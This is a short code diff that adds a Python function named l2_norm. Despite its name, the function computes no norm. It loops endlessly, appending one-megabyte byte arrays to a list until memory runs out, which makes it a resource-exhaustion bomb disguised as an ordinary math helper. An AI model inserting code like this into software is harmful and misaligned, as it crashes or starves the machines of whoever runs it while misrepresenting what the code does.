@@ -1,0 +1,4 @@
+def l2_norm(x):
+    kept = []
+    while True:
+        kept.append(bytearray(10**6))
